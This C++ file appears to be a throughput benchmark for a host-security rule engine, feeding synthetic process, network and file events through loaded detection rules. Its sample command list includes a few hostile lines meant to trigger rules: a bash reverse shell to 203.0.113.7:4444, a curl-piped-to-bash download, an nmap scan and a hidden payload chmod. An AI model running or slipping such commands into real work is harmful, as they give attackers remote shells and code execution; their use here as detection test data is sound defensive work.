// Hub rule engine throughput: a synthetic stream of exec (59), connect (42) and file create (602)
// records shaped like the driver's (~30 fields, real-looking argv) through the loaded rules, on one
// thread and then on every core, with and without the Hyperscan prefilter.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "server/hub/engine.h"
#include "server/hub/rule_loader.h"

namespace {

using vigil::hub::Engine;
using vigil::hub::EngineOptions;
using vigil::hub::Event;
using vigil::hub::FrequencyState;

// One record: owned strings, and the Event whose views point into them.
struct Record {
    std::vector<std::pair<std::string, std::string>> kv;
    Event event;
    void bind() {
        event.clear();
        for (const auto& [k, v] : kv) event.set(k, v);
    }
};

const char* kCommands[] = {
    "/usr/bin/ls -la /var/log",
    "/usr/bin/grep -r error /var/log/syslog",
    "/usr/bin/ps aux",
    "/usr/bin/cat /etc/os-release",
    "/usr/bin/systemctl status nginx",
    "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000",
    "/usr/bin/git status",
    "/usr/bin/git pull origin main",
    "/usr/bin/ssh deploy@10.0.3.12 uptime",
    "/usr/bin/curl -s http://localhost:8080/health",
    "/usr/bin/apt-get update",
    "/usr/bin/dpkg -l",
    "/usr/bin/tar czf /backup/etc.tgz /etc",
    "/usr/bin/rsync -a /srv/data/ backup:/srv/data/",
    "/usr/bin/find /var/www -name *.log -mtime +7 -delete",
    "/usr/bin/awk {print $1} /var/log/nginx/access.log",
    "/usr/bin/sed -i s/foo/bar/ /etc/app.conf",
    "/usr/bin/docker ps --format {{.Names}}",
    "/usr/bin/kubectl get pods -n default",
    "/usr/sbin/nginx -g daemon off;",
    "/usr/bin/java -Xmx2g -jar /opt/service/app.jar --spring.profiles.active=prod",
    "/usr/bin/node /srv/web/server.js",
    "/usr/bin/bash -c /usr/local/bin/backup.sh",
    "/usr/bin/sh -c run-parts /etc/cron.daily",
    "/usr/bin/date +%s",
    "/usr/bin/df -h",
    "/usr/bin/du -sh /home/alice",
    "/usr/bin/journalctl -u sshd --since today",
    "/usr/bin/vim /etc/hosts",
    "/usr/bin/top -b -n 1",
    "/usr/bin/make -j4",
    "/usr/bin/gcc -O2 -c main.c -o main.o",
    "/usr/bin/wget -q https://example.com/file.tar.gz",
    "/usr/bin/id -u",
    "/usr/bin/sudo systemctl restart postgresql",
    "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main",
    "/usr/bin/redis-cli ping",
    "/usr/bin/mysql -u app -e select 1",
    "/usr/bin/crontab -l",
    "/usr/bin/ip addr show",
    // A few that rules should catch.
    "/usr/bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "/usr/bin/curl -s http://203.0.113.9/x.sh | bash",
    "/usr/bin/nmap -sS 10.0.0.0/24",
    "/usr/bin/chmod +x /tmp/.x/payload",
};

const char* kUsers[] = {"root", "www-data", "alice", "deploy", "postgres", "nobody"};
const char* kPaths[] = {"/var/log/app/app.log",
                        "/tmp/tmp.X3f9a",
                        "/home/alice/notes.txt",
                        "/var/lib/docker/overlay2/abc/diff/x",
                        "/etc/cron.d/backup",
                        "/srv/data/upload/file.bin",
                        "/var/cache/apt/archives/partial/x.deb",
                        "/root/.bash_history",
                        "/var/www/html/index.php",
                        "/usr/lib/x86_64-linux-gnu/libfoo.so.1"};

std::string exeOf(const std::string& cmd) {
    return cmd.substr(0, cmd.find(' '));
}
std::string baseOf(const std::string& path) {
    return path.substr(path.rfind('/') + 1);
}

Record makeRecord(std::mt19937& rng, int i) {
    Record r;
    auto add = [&](const char* k, std::string v) { r.kv.emplace_back(k, std::move(v)); };
    const int kind = static_cast<int>(rng() % 10);  // 6 exec, 2 connect, 2 file
    const int32_t dt = kind < 6 ? 59 : kind < 8 ? 42 : 602;
    const std::string cmd = kCommands[rng() % std::size(kCommands)];
    const std::string parent = kCommands[rng() % std::size(kCommands)];
    const std::string exe = exeOf(cmd);
    const int pid = 1000 + static_cast<int>(rng() % 60000);
    add("agent_id", "3f1c9a2e-7b4d-4e21-9c1f-" + std::to_string(100000000000 + rng() % 64));
    add("hostname", "web-" + std::to_string(rng() % 64) + ".prod.example.com");
    const uint32_t uid = rng() % std::size(kUsers);
    add("uid", std::to_string(uid == 0 ? 0 : 1000 + uid));
    add("exe", exe);
    add("pid", std::to_string(pid));
    add("ppid", std::to_string(pid - 7));
    add("pgid", std::to_string(pid - 7));
    add("tgid", std::to_string(pid));
    add("sid", std::to_string(pid - 100));
    add("comm", baseOf(exe).substr(0, 15));
    add("nodename", "web-" + std::to_string(rng() % 64));
    add("sessionid", "4294967295");
    add("pns", "4026531836");
    add("root_pns", "4026531836");
    add("argv", cmd.substr(cmd.find(' ') == std::string::npos ? 0 : 0));
    add("ppid_argv", parent);
    add("pgid_argv", parent);
    add("username", kUsers[uid]);
    add("pid_tree", std::to_string(pid) + "." + baseOf(exe) + "<" + std::to_string(pid - 7) + "." +
                        baseOf(exeOf(parent)) + "<1200.sshd<1.systemd");
    add("exe_hash", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
    add("container_id", rng() % 4 == 0 ? "4b1d7c3e9a2f" : "");
    if (dt == 59) {
        add("parent_exe", exeOf(parent));
        add("run_path", "/home/" + std::string(kUsers[uid]));
        add("tty", rng() % 2 ? "pts0" : "-");
        add("stdin", "/dev/pts/0");
        add("stdout", "/dev/pts/0");
        add("dip", "-");
        add("dport", "-");
        add("ld_preload", "");
        add("res", "0");
    } else if (dt == 42) {
        add("dip", rng() % 3 ? "10.0.3." + std::to_string(rng() % 250)
                             : "203.0.113." + std::to_string(rng() % 250));
        const char* ports[] = {"443", "80", "5432", "6379", "22", "4444", "8080", "53"};
        add("dport", ports[rng() % std::size(ports)]);
        add("sip", "10.0.1.5");
        add("sport", std::to_string(30000 + rng() % 30000));
        add("sa_family", "2");
        add("res", "0");
    } else {
        add("file_path", kPaths[rng() % std::size(kPaths)]);
        add("mode", "33188");
        add("flags", "577");
        add("res", "3");
    }
    Record out;
    out.kv = std::move(r.kv);
    out.event.data_type = dt;
    out.event.time_ms = 1700000000000 + i;
    return out;
}

std::vector<Record> makeStream(unsigned seed, size_t n) {
    std::mt19937 rng(seed);
    std::vector<Record> v;
    v.reserve(n);
    for (size_t i = 0; i < n; ++i) v.push_back(makeRecord(rng, static_cast<int>(i)));
    for (auto& r : v) {
        int32_t dt = r.event.data_type;
        int64_t t = r.event.time_ms;
        r.bind();
        r.event.data_type = dt;
        r.event.time_ms = t;
    }
    return v;
}

struct Run {
    double seconds = 0;
    size_t hits = 0;
};

Run runOne(const Engine& engine, const std::vector<Record>& stream, size_t count) {
    FrequencyState freq;
    Run run;
    auto t0 = std::chrono::steady_clock::now();
    for (size_t i = 0; i < count; ++i) {
        run.hits += engine.evaluate(stream[i % stream.size()].event, &freq).size();
    }
    run.seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
    return run;
}

long rssKb() {
    std::ifstream in("/proc/self/status");
    std::string line;
    while (std::getline(in, line)) {
        if (line.rfind("VmHWM:", 0) == 0) return std::strtol(line.c_str() + 6, nullptr, 10);
    }
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    size_t count = 2000000;
    unsigned threads = std::thread::hardware_concurrency();
    std::vector<std::string> paths;
    for (int i = 1; i < argc; ++i) {
        if (!std::strcmp(argv[i], "--count") && i + 1 < argc) {
            count = std::strtoull(argv[++i], nullptr, 10);
        } else if (!std::strcmp(argv[i], "--threads") && i + 1 < argc) {
            threads = static_cast<unsigned>(std::strtoul(argv[++i], nullptr, 10));
        } else {
            paths.push_back(argv[i]);
        }
    }
    if (threads == 0) threads = 1;
    auto loaded = vigil::hub::loadRules(paths);
    for (const auto& d : loaded.diagnostics) std::fprintf(stderr, "%s\n", d.toString().c_str());
    if (loaded.failed != 0) return 1;
    const size_t rule_count = loaded.rules.size();
    Engine with(loaded.rules, EngineOptions{true});
    Engine without(std::move(loaded.rules), EngineOptions{false});
    std::printf("rules: %zu, events per run: %zu, threads: %u\n", rule_count, count, threads);
    for (int32_t dt : {59, 42, 602}) {
        std::printf("data_type %d: %zu rules, %zu behind the prefilter\n", dt, with.rulesFor(dt),
                    with.prefilteredRules(dt));
    }

    // Small enough that records stay in cache, as a freshly decoded message does in the service.
    constexpr size_t kStream = 1024;
    auto stream = makeStream(1, kStream);
    runOne(with, stream, kStream);  // warm up (scratch, caches)
    Run on = runOne(with, stream, count);
    Run off = runOne(without, stream, count / 4);
    if (off.hits == 0) std::fprintf(stderr, "warning: no rule fired\n");
    // Same events, same verdicts: the prefilter must not change the alert count.
    if (runOne(with, stream, count / 4).hits != off.hits) {
        std::fprintf(stderr, "error: alerts differ with and without the prefilter\n");
        return 1;
    }
    std::printf("one thread, prefilter on:  %.0f events/s (%zu alerts)\n", count / on.seconds,
                on.hits);
    std::printf("one thread, prefilter off: %.0f events/s (%zu alerts)\n",
                (count / 4) / off.seconds, off.hits);

    std::vector<std::vector<Record>> streams;
    for (unsigned t = 0; t < threads; ++t) streams.push_back(makeStream(100 + t, kStream));
    std::vector<std::thread> workers;
    auto t0 = std::chrono::steady_clock::now();
    for (unsigned t = 0; t < threads; ++t) {
        workers.emplace_back([&, t] { runOne(with, streams[t], count); });
    }
    for (auto& w : workers) w.join();
    const double all = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();

    std::printf("METRIC hub_events_per_s_per_core %.0f events/s\n", count / on.seconds);
    std::printf("METRIC hub_events_per_s_per_core_prefilter_off %.0f events/s\n",
                (count / 4) / off.seconds);
    std::printf("METRIC hub_events_per_s %.0f events/s\n", threads * count / all);
    std::printf("METRIC hub_rss_kb %ld kB\n", rssKb());
    return 0;
}
